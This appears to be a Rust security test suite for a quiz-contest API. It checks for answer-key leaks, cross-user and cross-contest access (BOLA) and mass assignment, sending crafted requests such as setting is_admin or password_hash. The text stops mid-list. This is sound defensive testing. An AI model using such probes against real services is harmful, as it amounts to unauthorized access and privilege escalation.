//! Security probes against the running server, each a real request with the exact answer
//! the contract asks for:
//!
//! - no answer key before finalizing: every body a member can read is scanned for fields
//!   that say which option is correct, for correct option ids under such fields and for
//!   the explanations' text (and the scan is shown to catch the key once it is revealed);
//! - objects of other people and other contests stay out of reach (BOLA): attempts, banks,
//!   rounds, figures, exports, disqualifications; members and anonymous callers are kept
//!   off staff endpoints;
//! - fields the server owns cannot be set from a body (mass assignment);
//! - hostile text (SQL injection, script payloads, spreadsheet formulas) is stored and
//!   returned as data, byte for byte, and ids or query values that are not what they
//!   should be are 400/404 problems, never 500;
//! - phones and ID numbers stay out of public views, other members' views and the logs.
//!
//! Token tampering is in `accounts.rs`, staff access per contest in `contest_access.rs`.

use std::collections::{HashMap, HashSet};
use std::io::{BufRead, BufReader, Read};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use chrono::{Duration, Utc};
use reqwest::Method;
use serde_json::{Value, json};
use uuid::Uuid;

use crate::helpers::{MEMBER_PASSWORD, TestApp, TestDatabase, spawn_app, spawn_app_with, test_env};
use crate::taking::stored_attempt;

/// Questions in every stage's bank, all of them on each paper.
const QUESTIONS: usize = 4;

// ---------------------------------------------------------------------------------------
// The stage: a contest with a bank, an open round, its organiser and a judge

/// A contest with `QUESTIONS` explained questions and one round open now.
struct Stage {
    organiser: String,
    judge: String,
    contest: String,
    slug: String,
    round: String,
    /// Question id → its correct option ids.
    key: HashMap<String, Vec<String>>,
    /// Every option id of the bank, right or wrong.
    options: Vec<String>,
    /// A marker written into each explanation, found nowhere else.
    explanation_markers: Vec<String>,
}

impl Stage {
    fn question(&self) -> &str {
        self.key.keys().next().expect("a question")
    }
}

/// A server with no submission grace, so a round can be finalized as soon as it closes.
async fn app_without_grace() -> TestApp {
    spawn_app_with(|env| {
        env.insert("HOITHI_SUBMIT_GRACE_MS".into(), "0".into());
    })
    .await
}

/// A stage whose every organiser-written text carries `label`; published when asked.
async fn stage(app: &TestApp, slug: &str, label: &str, published: bool) -> Stage {
    let organiser = app
        .staff("organizer", &format!("btc-{slug}@example.org"))
        .await;
    let contest = app
        .expect(
            201,
            Method::POST,
            "/api/v1/contests",
            Some(&organiser),
            Some(&json!({
                "slug": slug,
                "title": format!("Cuộc thi {label}"),
                "description": format!("Mô tả {label}"),
                "rules": format!("Thể lệ {label}"),
            })),
        )
        .await;
    let contest = text(&contest["id"]);
    let mut key = HashMap::new();
    let mut options = Vec::new();
    let mut explanation_markers = Vec::new();
    for i in 0..QUESTIONS {
        let marker = format!("giai-thich-bi-mat-{slug}-{i}");
        let right = i % 4;
        let question = app
            .expect(
                201,
                Method::POST,
                &format!("/api/v1/contests/{contest}/questions"),
                Some(&organiser),
                Some(&json!({
                    "text": format!("Câu hỏi {i} {label}"),
                    "kind": "single",
                    "options": (0..4)
                        .map(|o| json!({"text": format!("Phương án {o} {label}"), "correct": o == right}))
                        .collect::<Vec<_>>(),
                    "category": format!("Chủ đề {label}"),
                    "explanation": format!("{marker} {label}"),
                })),
            )
            .await;
        let mut correct = Vec::new();
        for option in question["options"].as_array().expect("options") {
            options.push(text(&option["id"]));
            if option["correct"] == true {
                correct.push(text(&option["id"]));
            }
        }
        key.insert(text(&question["id"]), correct);
        explanation_markers.push(marker);
    }
    let now = Utc::now();
    let round = app
        .expect(
            201,
            Method::POST,
            &format!("/api/v1/contests/{contest}/rounds"),
            Some(&organiser),
            Some(&json!({
                "number": 1, "title": format!("Tuần 1 {label}"),
                "opens_at": (now - Duration::hours(1)).to_rfc3339(),
                "closes_at": (now + Duration::days(7)).to_rfc3339(),
                "question_count": QUESTIONS, "time_limit_seconds": 600, "max_attempts": 2,
                "shuffle_options": true,
                "prediction": {"prompt": format!("Bao nhiêu lượt dự thi? {label}"), "target": "entries"},
                "prizes": [{"name": format!("Giải Nhất {label}"), "count": 1}],
            })),
        )
        .await;
    if published {
        app.expect(
            200,
            Method::POST,
            &format!("/api/v1/contests/{contest}/publish"),
            Some(&organiser),
            None,
        )
        .await;
    }
    let judge = app
        .judge_of(&contest, &format!("bgk-{slug}@example.org"))
        .await;
    Stage {
        organiser,
        judge,
        slug: slug.to_owned(),
        round: text(&round["id"]),
        contest,
        key,
        options,
        explanation_markers,
    }
}

fn text(value: &Value) -> String {
    value.as_str().expect("a string").to_owned()
}

/// Starts an attempt at the stage's round; answers the new attempt.
async fn start(app: &TestApp, token: &str, stage: &Stage) -> Value {
    app.expect(
        201,
        Method::POST,
        &format!("/api/v1/rounds/{}/attempts", stage.round),
        Some(token),
        None,
    )
    .await
}

/// Right answers to every question of `attempt`.
fn right_answers(attempt: &Value, stage: &Stage) -> Vec<Value> {
    attempt["questions"]
        .as_array()
        .expect("questions")
        .iter()
        .map(|q| json!({"question_id": q["id"], "option_ids": stage.key[q["id"].as_str().expect("id")]}))
        .collect()
}

/// Submits with right answers to every question; answers the result.
async fn submit_right(app: &TestApp, token: &str, stage: &Stage, attempt: &Value) -> Value {
    app.expect(
        200,
        Method::POST,
        &format!("/api/v1/attempts/{}/submit", text(&attempt["id"])),
        Some(token),
        Some(&json!({"answers": right_answers(attempt, stage), "prediction": 1})),
    )
    .await
}

/// Closes the stage's open round now (its organiser).
async fn close(app: &TestApp, stage: &Stage) {
    app.close_round(&stage.round, &stage.organiser).await;
}

/// Finalizes the stage's closed round (its judge); answers the result.
async fn finalize(app: &TestApp, stage: &Stage) -> Value {
    app.finalize_round(&stage.round, &stage.judge).await
}

async fn close_and_finalize(app: &TestApp, stage: &Stage) -> Value {
    close(app, stage).await;
    finalize(app, stage).await
}

// ---------------------------------------------------------------------------------------
// Raw replies, and what a refusal must look like

/// A reply as it came: status, content type and body text.
struct Reply {
    what: String,
    status: u16,
    content_type: String,
    /// `x-content-type-options: nosniff`: no browser may read JSON as HTML.
    nosniff: bool,
    body: String,
}

impl Reply {
    fn json(&self) -> Value {
        serde_json::from_str(&self.body)
            .unwrap_or_else(|e| panic!("{}: not JSON ({e}): {}", self.what, self.body))
    }

    /// A problem+json answer with this status and code.
    fn assert_refused(&self, status: u16, code: &str) {
        assert_eq!(
            (
                self.status,
                self.content_type.starts_with("application/problem+json")
            ),
            (status, true),
            "{} should be a {status} problem: {} {} {}",
            self.what,
            self.status,
            self.content_type,
            self.body
        );
        let problem = self.json();
        assert_eq!(problem["code"], code, "{}: {problem}", self.what);
        assert_eq!(problem["status"], status, "{}: {problem}", self.what);
    }
}

async fn probe(
    app: &TestApp,
    method: Method,
    path: &str,
    token: Option<&str>,
    body: Option<&Value>,
) -> Reply {
    let response = app.send(method.clone(), path, token, body).await;
    Reply {
        what: format!("{method} {path}"),
        status: response.status().as_u16(),
        content_type: response
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned(),
        nosniff: response
            .headers()
            .get("x-content-type-options")
            .is_some_and(|v| v == "nosniff"),
        body: response.text().await.expect("a body"),
    }
}

/// A GET that must answer 200 JSON.
async fn read(app: &TestApp, path: &str, token: Option<&str>) -> Reply {
    let reply = probe(app, Method::GET, path, token, None).await;
    assert_eq!(reply.status, 200, "{}: {}", reply.what, reply.body);
    assert!(
        reply.content_type.starts_with("application/json"),
        "{}: content-type {}",
        reply.what,
        reply.content_type
    );
    assert!(
        reply.nosniff,
        "{}: no x-content-type-options: nosniff",
        reply.what
    );
    reply
}

// ---------------------------------------------------------------------------------------
// 1. No answer key before finalizing

/// Every place in `body` that tells which option is correct, or why: a field named like
/// the answer key, a `correct` that is not a score, an option with more than its id and
/// text, a correct option id under a field about correctness, an explanation's text.
fn answer_key_leaks(body: &Value, stage: &Stage) -> Vec<String> {
    let correct: HashSet<&str> = stage.key.values().flatten().map(String::as_str).collect();
    let mut leaks = Vec::new();
    walk_for_key(body, "$", &correct, &stage.explanation_markers, &mut leaks);
    leaks
}

fn walk_for_key(
    value: &Value,
    path: &str,
    correct: &HashSet<&str>,
    markers: &[String],
    leaks: &mut Vec<String>,
) {
    const NAMES: [&str; 6] = [
        "correct_option",
        "is_correct",
        "explanation",
        "answer_key",
        "solution",
        "right_option",
    ];
    match value {
        Value::Object(fields) => {
            for (name, inner) in fields {
                let here = format!("{path}.{name}");
                let lower = name.to_lowercase();
                if NAMES.iter().any(|n| lower.contains(n)) {
                    leaks.push(format!("{here}: a field named like the answer key"));
                }
                if lower == "correct" && !(inner.is_number() || inner.is_null()) {
                    leaks.push(format!("{here}: `correct` as a flag, not a score: {inner}"));
                }
                if lower == "options" {
                    for (i, option) in inner.as_array().into_iter().flatten().enumerate() {
                        let extra: Vec<&String> = option
                            .as_object()
                            .into_iter()
                            .flat_map(|o| o.keys())
                            .filter(|k| *k != "id" && *k != "text")
                            .collect();
                        if !extra.is_empty() {
                            leaks.push(format!("{here}[{i}]: an option also has {extra:?}"));
                        }
                    }
                }
                if ["correct", "right", "solution"]
                    .iter()
                    .any(|w| lower.contains(w))
                {
                    let mut ids = Vec::new();
                    strings_in(inner, &mut ids);
                    if ids.iter().any(|s| correct.contains(s.as_str())) {
                        leaks.push(format!("{here}: holds a correct option id"));
                    }
                }
                walk_for_key(inner, &here, correct, markers, leaks);
            }
        }
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                walk_for_key(item, &format!("{path}[{i}]"), correct, markers, leaks);
            }
        }
        Value::String(s) if markers.iter().any(|m| s.contains(m.as_str())) => {
            leaks.push(format!("{path}: an explanation's text"));
        }
        _ => {}
    }
}

fn strings_in(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(s) => out.push(s.clone()),
        Value::Array(items) => items.iter().for_each(|v| strings_in(v, out)),
        Value::Object(fields) => fields.values().for_each(|v| strings_in(v, out)),
        _ => {}
    }
}

/// Every GET a member (or anyone) can make about the stage, as `token` sees it.
async fn member_reads(app: &TestApp, stage: &Stage, token: Option<&str>) -> Vec<Reply> {
    let (c, r) = (&stage.slug, &stage.round);
    let mut paths = vec![
        "/api/v1/contests".to_owned(),
        format!("/api/v1/contests/{c}"),
        format!("/api/v1/contests/{}", stage.contest),
        format!("/api/v1/contests/{c}/rounds"),
        format!("/api/v1/rounds/{r}"),
        format!("/api/v1/rounds/{r}/leaderboard"),
        format!("/api/v1/contests/{c}/leaderboard"),
        format!("/api/v1/contests/{c}/units/ranking"),
        format!("/api/v1/contests/{c}/units/ranking?by=entries&round={r}"),
        "/api/v1/units".to_owned(),
    ];
    if token.is_some() {
        paths.extend([
            "/api/v1/me".to_owned(),
            "/api/v1/me/attempts".to_owned(),
            format!("/api/v1/me/attempts?round={r}"),
            format!("/api/v1/rounds/{r}/leaderboard/me"),
        ]);
    }
    let mut replies = Vec::new();
    for path in paths {
        replies.push(read(app, &path, token).await);
    }
    replies
}

fn assert_no_answer_key(replies: &[Reply], stage: &Stage) {
    for reply in replies {
        if reply.body.is_empty() {
            continue;
        }
        let leaks = answer_key_leaks(&reply.json(), stage);
        assert!(
            leaks.is_empty(),
            "{} ({}) reveals the answer key: {leaks:#?}\n{}",
            reply.what,
            reply.status,
            reply.body
        );
    }
}

#[tokio::test]
async fn nothing_a_member_can_read_before_finalizing_reveals_the_answer_key() {
    let app = app_without_grace().await;
    let stage = stage(&app, "kin-dap-an", "kín đáp án", true).await;
    let token = app.member_token("0912345678").await;
    let path = |id: &str, rest: &str| format!("/api/v1/attempts/{id}{rest}");
    let mut seen = Vec::new();

    let started = probe(
        &app,
        Method::POST,
        &format!("/api/v1/rounds/{}/attempts", stage.round),
        Some(&token),
        None,
    )
    .await;
    assert_eq!(started.status, 201, "{}", started.body);
    let attempt = started.json();
    let id = text(&attempt["id"]);
    seen.push(started);
    let answers = right_answers(&attempt, &stage);
    let saved = probe(
        &app,
        Method::PUT,
        &path(&id, "/answers"),
        Some(&token),
        Some(&json!({"answers": answers[..2]})),
    )
    .await;
    assert_eq!((saved.status, saved.body.as_str()), (204, ""));
    seen.push(read(&app, &path(&id, ""), Some(&token)).await);
    let submitted = probe(
        &app,
        Method::POST,
        &path(&id, "/submit"),
        Some(&token),
        Some(&json!({"answers": answers[2..], "prediction": 3})),
    )
    .await;
    assert_eq!(submitted.status, 200, "{}", submitted.body);
    assert_eq!(
        submitted.json()["correct"],
        QUESTIONS,
        "all answered rightly"
    );
    seen.push(submitted);
    seen.push(read(&app, &path(&id, ""), Some(&token)).await);
    // A second attempt, left in progress, with the first one's result already known.
    let second = probe(
        &app,
        Method::POST,
        &format!("/api/v1/rounds/{}/attempts", stage.round),
        Some(&token),
        None,
    )
    .await;
    assert_eq!(second.status, 201, "{}", second.body);
    let second_id = text(&second.json()["id"]);
    seen.push(second);
    seen.push(read(&app, &path(&second_id, ""), Some(&token)).await);
    seen.extend(member_reads(&app, &stage, Some(&token)).await);
    seen.extend(member_reads(&app, &stage, None).await);
    // Where the key is kept, a member is refused, and the refusal says nothing of it.
    let question = stage.question();
    for staff_only in [
        format!("/api/v1/contests/{}/questions", stage.contest),
        format!("/api/v1/contests/{}/questions?format=csv", stage.contest),
        format!("/api/v1/questions/{question}"),
        format!("/api/v1/rounds/{}/results", stage.round),
    ] {
        let reply = probe(&app, Method::GET, &staff_only, Some(&token), None).await;
        reply.assert_refused(403, "forbidden_role");
        seen.push(reply);
    }
    let public_winners = probe(
        &app,
        Method::GET,
        &format!("/api/v1/rounds/{}/winners/public", stage.round),
        Some(&token),
        None,
    )
    .await;
    public_winners.assert_refused(409, "round_not_finalized");
    seen.push(public_winners);
    assert_no_answer_key(&seen, &stage);

    // Closed but not yet finalized: still nothing.
    close(&app, &stage).await;
    let mut closed = vec![
        read(&app, &path(&id, ""), Some(&token)).await,
        read(&app, &path(&second_id, ""), Some(&token)).await,
    ];
    closed.extend(member_reads(&app, &stage, Some(&token)).await);
    assert_no_answer_key(&closed, &stage);

    // Finalized: the paper shows the key, and the scan sees it (so it could have above).
    finalize(&app, &stage).await;
    let revealed = app
        .expect(200, Method::GET, &path(&id, ""), Some(&token), None)
        .await;
    let leaks = answer_key_leaks(&revealed, &stage);
    for expected in ["correct_option_ids", "explanation", "an explanation's text"] {
        assert!(
            leaks.iter().any(|l| l.contains(expected)),
            "{expected} not found in {leaks:#?}"
        );
    }
    for q in revealed["questions"].as_array().expect("questions") {
        let shown: Vec<String> = q["correct_option_ids"]
            .as_array()
            .expect("the key once finalized")
            .iter()
            .map(text)
            .collect();
        assert_eq!(shown, stage.key[q["id"].as_str().expect("id")]);
    }
}

// ---------------------------------------------------------------------------------------
// 2. Other people's objects (BOLA)

#[tokio::test]
async fn an_attempt_answers_only_the_member_who_started_it_not_other_members_nor_staff() {
    let app = spawn_app().await;
    let stage = stage(&app, "cua-ai-nay", "riêng", true).await;
    let (lan, hoa) = (
        app.member_token("0912000111").await,
        app.member_token("0912000222").await,
    );
    let attempt = start(&app, &lan, &stage).await;
    let id = text(&attempt["id"]);
    let answers = right_answers(&attempt, &stage);
    app.expect(
        204,
        Method::PUT,
        &format!("/api/v1/attempts/{id}/answers"),
        Some(&lan),
        Some(&json!({"answers": answers[..1]})),
    )
    .await;
    // Hòa takes part in the same round: a participant, not a stranger.
    start(&app, &hoa, &stage).await;
    let intruders = [
        ("another member", hoa.as_str()),
        ("the contest's organiser", stage.organiser.as_str()),
        ("the contest's judge", stage.judge.as_str()),
    ];
    let tries = |id: &str| {
        [
            (Method::GET, format!("/api/v1/attempts/{id}"), None),
            (
                Method::PUT,
                format!("/api/v1/attempts/{id}/answers"),
                Some(json!({"answers": []})),
            ),
            (
                Method::POST,
                format!("/api/v1/attempts/{id}/submit"),
                Some(json!({"answers": [], "prediction": 0})),
            ),
        ]
    };
    for (who, token) in intruders {
        for (method, path, body) in tries(&id) {
            let reply = probe(&app, method, &path, Some(token), body.as_ref()).await;
            assert!(!reply.body.contains(&id), "{who}: {}", reply.body);
            reply.assert_refused(404, "not_found");
        }
    }
    // Once submitted, a retry answers the stored result: but only to its owner.
    let result = submit_right(&app, &lan, &stage, &attempt).await;
    for (who, token) in intruders {
        for (method, path, body) in tries(&id) {
            let reply = probe(&app, method, &path, Some(token), body.as_ref()).await;
            assert!(!reply.body.contains(&id), "{who}: {}", reply.body);
            reply.assert_refused(404, "not_found");
        }
    }
    let own = stored_attempt(&app, &id, &lan).await;
    assert_eq!(own["state"], "submitted");
    assert_eq!(own["result"]["correct"], result["correct"]);
    assert_eq!(own["answers"].as_array().map(Vec::len), Some(QUESTIONS));
}

#[tokio::test]
async fn answers_naming_questions_or_options_of_another_contest_are_refused() {
    let app = spawn_app().await;
    let mine = stage(&app, "cuoc-thi-nay", "này", true).await;
    let other = stage(&app, "cuoc-thi-kia", "kia", false).await;
    let token = app.member_token("0912345678").await;
    let attempt = start(&app, &token, &mine).await;
    let id = text(&attempt["id"]);
    let (foreign_question, foreign_right) = other.key.iter().next().expect("a question");
    let own_question = &attempt["questions"][0]["id"];
    for (answer, field) in [
        (
            json!({"question_id": foreign_question, "option_ids": foreign_right}),
            "answers[0].question_id",
        ),
        (
            json!({"question_id": own_question, "option_ids": [other.options[0]]}),
            "answers[0].option_ids",
        ),
    ] {
        for (method, path, body) in [
            (
                Method::PUT,
                format!("/api/v1/attempts/{id}/answers"),
                json!({"answers": [answer]}),
            ),
            (
                Method::POST,
                format!("/api/v1/attempts/{id}/submit"),
                json!({"answers": [answer], "prediction": 1}),
            ),
        ] {
            let reply = probe(&app, method, &path, Some(&token), Some(&body)).await;
            reply.assert_refused(422, "validation_failed");
            assert!(reply.json()["errors"][field].is_array(), "{}", reply.body);
        }
    }
    let after = stored_attempt(&app, &id, &token).await;
    assert_eq!(after["state"], "in_progress");
    assert_eq!(after["answers"], json!([]), "nothing was saved");
}

/// Every staff request on `stage` an organiser might try: method, path, body.
fn organiser_work(stage: &Stage) -> Vec<(Method, String, Option<Value>)> {
    let (c, r, q) = (&stage.contest, &stage.round, stage.question());
    let question = json!({"text": "Câu hỏi chen vào?", "options": [{"text": "a", "correct": true}, {"text": "b", "correct": false}]});
    vec![
        (Method::GET, format!("/api/v1/questions/{q}"), None),
        (
            Method::PATCH,
            format!("/api/v1/questions/{q}"),
            Some(json!({"text": "Đã bị sửa?"})),
        ),
        (Method::DELETE, format!("/api/v1/questions/{q}"), None),
        (Method::GET, format!("/api/v1/contests/{c}/questions"), None),
        (
            Method::GET,
            format!("/api/v1/contests/{c}/questions?format=csv"),
            None,
        ),
        (
            Method::POST,
            format!("/api/v1/contests/{c}/questions"),
            Some(question.clone()),
        ),
        (
            Method::POST,
            format!("/api/v1/contests/{c}/questions/import?format=json"),
            Some(json!({"questions": [question]})),
        ),
        (
            Method::POST,
            format!("/api/v1/contests/{c}/rounds"),
            Some(
                json!({"number": 2, "title": "Tuần chen vào", "opens_at": Utc::now().to_rfc3339(),
                "closes_at": (Utc::now() + Duration::days(1)).to_rfc3339(), "question_count": 1,
                "time_limit_seconds": 60, "prediction": {"prompt": "?", "target": "entries"}, "prizes": []}),
            ),
        ),
        (
            Method::PATCH,
            format!("/api/v1/rounds/{r}"),
            Some(json!({"title": "Đã bị sửa"})),
        ),
        (Method::POST, format!("/api/v1/rounds/{r}/close"), None),
        (Method::GET, format!("/api/v1/rounds/{r}/stats"), None),
        (Method::GET, format!("/api/v1/contests/{c}/stats"), None),
    ]
}

/// The stage's bank and round as its own organiser sees them, to show nothing changed.
async fn snapshot(app: &TestApp, stage: &Stage) -> (Value, Value) {
    let bank = app
        .expect(
            200,
            Method::GET,
            &format!("/api/v1/contests/{}/questions", stage.contest),
            Some(&stage.organiser),
            None,
        )
        .await;
    let mut round = app
        .expect(
            200,
            Method::GET,
            &format!("/api/v1/rounds/{}", stage.round),
            Some(&stage.organiser),
            None,
        )
        .await;
    round["updated_at"] = Value::Null;
    (bank, round)
}

async fn audit_lines_by(app: &TestApp, email: &str) -> i64 {
    sqlx::query_scalar(
        "SELECT count(*) FROM audit_log l JOIN accounts a ON a.id = l.actor_id WHERE a.email = $1",
    )
    .bind(email)
    .fetch_one(&app.db.pool)
    .await
    .expect("counting audit lines")
}

#[tokio::test]
async fn an_organiser_cannot_read_or_change_another_contests_bank_rounds_or_figures() {
    let app = spawn_app().await;
    let mine = stage(&app, "cua-minh", "của mình", true).await;
    let published = stage(&app, "cua-nguoi-cong-khai", "công khai", true).await;
    let draft = stage(&app, "cua-nguoi-nhap", "bản nháp", false).await;
    let before = (
        snapshot(&app, &published).await,
        snapshot(&app, &draft).await,
    );

    // A published contest is visible, so working on it is 403; its questions stay absent.
    for (method, path, body) in organiser_work(&published) {
        let reply = probe(&app, method, &path, Some(&mine.organiser), body.as_ref()).await;
        if path.starts_with("/api/v1/questions/") {
            reply.assert_refused(404, "not_found");
        } else {
            reply.assert_refused(403, "not_contest_staff");
        }
    }
    // Someone else's draft does not exist, whatever the path, readings included.
    let mut on_draft = organiser_work(&draft);
    for read_path in [
        format!("/api/v1/contests/{}", draft.contest),
        format!("/api/v1/contests/{}/rounds", draft.contest),
        format!("/api/v1/rounds/{}", draft.round),
        format!("/api/v1/rounds/{}/leaderboard", draft.round),
        format!("/api/v1/rounds/{}/leaderboard/me", draft.round),
        format!("/api/v1/contests/{}/leaderboard", draft.contest),
        format!("/api/v1/contests/{}/units/ranking", draft.contest),
        format!("/api/v1/rounds/{}/winners/public", draft.round),
    ] {
        on_draft.push((Method::GET, read_path, None));
    }
    for (method, path, body) in on_draft {
        let reply = probe(&app, method, &path, Some(&mine.organiser), body.as_ref()).await;
        reply.assert_refused(404, "not_found");
        assert!(
            !reply.body.contains("bản nháp"),
            "{}: {}",
            reply.what,
            reply.body
        );
    }

    let after = (
        snapshot(&app, &published).await,
        snapshot(&app, &draft).await,
    );
    assert_eq!(after, before, "nothing of theirs changed");
    assert_eq!(
        audit_lines_by(&app, "btc-cua-minh@example.org").await,
        1,
        "only the organiser's own publishing is in the audit log"
    );
}

#[tokio::test]
async fn a_judge_of_one_contest_cannot_finalize_export_or_disqualify_in_another() {
    let app = app_without_grace().await;
    let mine = stage(&app, "bgk-nay", "này", true).await;
    let theirs = stage(&app, "bgk-kia", "kia", true).await;
    let winner = app.register("0912345678").await;
    let winner_token = text(&winner["access_token"]);
    let winner_id = text(&winner["member"]["id"]);
    let attempt = start(&app, &winner_token, &theirs).await;
    submit_right(&app, &winner_token, &theirs, &attempt).await;
    close(&app, &mine).await;
    close(&app, &theirs).await;
    let (r, c) = (&theirs.round, &theirs.slug);

    let outsider = probe(
        &app,
        Method::POST,
        &format!("/api/v1/rounds/{r}/finalize"),
        Some(&mine.judge),
        None,
    )
    .await;
    outsider.assert_refused(403, "not_contest_staff");
    let round = app
        .expect(200, Method::GET, &format!("/api/v1/rounds/{r}"), None, None)
        .await;
    assert_eq!(round["state"], "closed", "not finalized by an outsider");

    let finalized = finalize(&app, &theirs).await;
    assert_eq!(finalized["winners"][0]["member_id"], json!(winner_id));
    for (method, path, body) in [
        (Method::POST, format!("/api/v1/rounds/{r}/finalize"), None),
        (Method::GET, format!("/api/v1/rounds/{r}/results"), None),
        (
            Method::GET,
            format!("/api/v1/rounds/{r}/results?format=csv"),
            None,
        ),
        (Method::GET, format!("/api/v1/rounds/{r}/winners"), None),
        (
            Method::GET,
            format!("/api/v1/rounds/{r}/winners?format=xlsx"),
            None,
        ),
        (Method::GET, format!("/api/v1/contests/{c}/winners"), None),
        (
            Method::GET,
            format!("/api/v1/contests/{c}/winners?format=csv"),
            None,
        ),
        (Method::GET, format!("/api/v1/rounds/{r}/stats"), None),
        (
            Method::POST,
            format!("/api/v1/rounds/{r}/winners/{winner_id}/disqualify"),
            Some(json!({"reason": "không phải bgk của cuộc thi này"})),
        ),
    ] {
        let reply = probe(&app, method, &path, Some(&mine.judge), body.as_ref()).await;
        reply.assert_refused(403, "not_contest_staff");
        assert!(!reply.body.contains("0912345678") && !reply.body.contains("912345678"));
    }

    // Their winner named under my own round: not a winner here, so absent.
    finalize(&app, &mine).await;
    probe(
        &app,
        Method::POST,
        &format!(
            "/api/v1/rounds/{}/winners/{winner_id}/disqualify",
            mine.round
        ),
        Some(&mine.judge),
        Some(&json!({"reason": "nhầm cuộc thi"})),
    )
    .await
    .assert_refused(404, "not_found");

    let winners = app
        .expect(
            200,
            Method::GET,
            &format!("/api/v1/rounds/{r}/winners"),
            Some(&theirs.judge),
            None,
        )
        .await;
    assert_eq!(winners["items"][0]["member_id"], json!(winner_id));
    let disqualified: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_log WHERE action = 'round.disqualify'")
            .fetch_one(&app.db.pool)
            .await
            .expect("audit");
    assert_eq!(disqualified, 0);
    assert_eq!(
        audit_lines_by(&app, "bgk-bgk-nay@example.org").await,
        1,
        "only finalizing its own round"
    );
}

#[tokio::test]
async fn members_and_anonymous_callers_are_kept_off_every_staff_endpoint() {
    let app = spawn_app().await;
    let stage = stage(&app, "chi-can-bo", "cán bộ", true).await;
    let member = app.register("0912345678").await;
    let token = text(&member["access_token"]);
    let member_id = text(&member["member"]["id"]);
    let before = snapshot(&app, &stage).await;
    let (c, r) = (&stage.contest, &stage.round);
    let mut work = organiser_work(&stage);
    work.extend([
        (
            Method::POST,
            "/api/v1/contests".to_owned(),
            Some(json!({"slug": "cua-hoi-vien", "title": "Của hội viên"})),
        ),
        (
            Method::PATCH,
            format!("/api/v1/contests/{c}"),
            Some(json!({"title": "Đã bị sửa"})),
        ),
        (Method::POST, format!("/api/v1/contests/{c}/publish"), None),
        (Method::POST, format!("/api/v1/rounds/{r}/finalize"), None),
        (Method::GET, format!("/api/v1/rounds/{r}/results"), None),
        (Method::GET, format!("/api/v1/rounds/{r}/winners"), None),
        (Method::GET, format!("/api/v1/contests/{c}/winners"), None),
        (
            Method::POST,
            format!("/api/v1/rounds/{r}/winners/{member_id}/disqualify"),
            Some(json!({"reason": "tự loại"})),
        ),
        (Method::GET, "/api/v1/audit".to_owned(), None),
    ]);
    for (method, path, body) in work {
        probe(&app, method.clone(), &path, Some(&token), body.as_ref())
            .await
            .assert_refused(403, "forbidden_role");
        probe(&app, method, &path, None, body.as_ref())
            .await
            .assert_refused(401, "unauthorized");
    }
    // An organiser is not an admin either.
    probe(
        &app,
        Method::GET,
        "/api/v1/audit",
        Some(&stage.organiser),
        None,
    )
    .await
    .assert_refused(403, "forbidden_role");
    assert_eq!(snapshot(&app, &stage).await, before);
    let contests: i64 = sqlx::query_scalar("SELECT count(*) FROM contests")
        .fetch_one(&app.db.pool)
        .await
        .expect("count");
    assert_eq!(contests, 1);
}

// ---------------------------------------------------------------------------------------
// 3. Mass assignment

#[tokio::test]
async fn registration_refuses_fields_a_member_may_not_choose() {
    let app = spawn_app().await;
    let chosen_id = Uuid::now_v7();
    let base =
        json!({"phone": "0912345678", "full_name": "Trần Thị Lan", "password": MEMBER_PASSWORD});
    for (field, value) in [
        ("id", json!(chosen_id)),
        ("account_id", json!(chosen_id)),
        ("created_at", json!("2020-01-01T00:00:00Z")),
        ("email", json!("lan@example.org")),
        ("password_hash", json!("$argon2id$v=19$m=19456,t=2,p=1$x$y")),
        ("disabled_at", Value::Null),
        ("unit_id", json!(Uuid::now_v7())),
        ("is_admin", json!(true)),
    ] {
        let mut body = base.clone();
        body[field] = value;
        let reply = probe(
            &app,
            Method::POST,
            "/api/v1/auth/register",
            None,
            Some(&body),
        )
        .await;
        reply.assert_refused(422, "validation_failed");
        assert!(reply.json()["errors"][field].is_array(), "{}", reply.body);
    }
    let stored: i64 = sqlx::query_scalar("SELECT count(*) FROM accounts")
        .fetch_one(&app.db.pool)
        .await
        .expect("count");
    assert_eq!(stored, 0, "no refused registration stored anything");
    let member = app.register("0912345678").await["member"].clone();
    assert_eq!(member["role"], "member");
    assert_ne!(member["id"], json!(chosen_id), "the server chooses the id");
    assert!(member["email"].is_null());
}

#[tokio::test]
async fn a_profile_change_cannot_touch_fields_the_server_owns() {
    let app = spawn_app().await;
    let token = app.member_token("0912345678").await;
    let before = app
        .expect(200, Method::GET, "/api/v1/me", Some(&token), None)
        .await;
    for (field, value) in [
        ("account_id", json!(Uuid::now_v7())),
        ("created_at", json!("2020-01-01T00:00:00Z")),
        ("updated_at", json!("2020-01-01T00:00:00Z")),
        ("email", json!("lan@example.org")),
        ("password_hash", json!("x")),
        ("disabled_at", json!("2020-01-01T00:00:00Z")),
        ("unit_id", json!(Uuid::now_v7())),
        ("member", json!({"role": "admin"})),
    ] {
        let reply = probe(
            &app,
            Method::PATCH,
            "/api/v1/me",
            Some(&token),
            Some(&json!({"full_name": "Đổi tên", field: value})),
        )
        .await;
        reply.assert_refused(422, "validation_failed");
        assert!(reply.json()["errors"][field].is_array(), "{}", reply.body);
    }
    let after = app
        .expect(200, Method::GET, "/api/v1/me", Some(&token), None)
        .await;
    assert_eq!(after, before, "a refused change changes nothing");
}

#[tokio::test]
async fn server_owned_fields_of_contests_rounds_and_questions_cannot_be_set_from_a_body() {
    let app = spawn_app().await;
    let mine = stage(&app, "cua-toi", "của tôi", false).await;
    let other = stage(&app, "cua-khac", "của khác", false).await;
    let (c, r, q) = (&mine.contest, &mine.round, mine.question().to_owned());
    let elsewhere = json!(other.contest);
    let long_ago = json!("2020-01-01T00:00:00Z");
    let now = Utc::now();
    let round = json!({
        "number": 2, "title": "Tuần 2", "opens_at": (now - Duration::hours(1)).to_rfc3339(),
        "closes_at": (now + Duration::days(1)).to_rfc3339(), "question_count": 1,
        "time_limit_seconds": 60, "prediction": {"prompt": "?", "target": "entries"}, "prizes": [],
    });
    let question = json!({"text": "Câu hỏi mới?", "options": [{"text": "a", "correct": true}, {"text": "b", "correct": false}]});
    let with = |base: &Value, field: &str, value: &Value| {
        let mut body = base.clone();
        body[field] = value.clone();
        body
    };
    let contest = json!({"slug": "cuoc-thi-moi", "title": "Mới"});
    let mut cases = Vec::new();
    for (field, value) in [
        ("id", json!(Uuid::now_v7())),
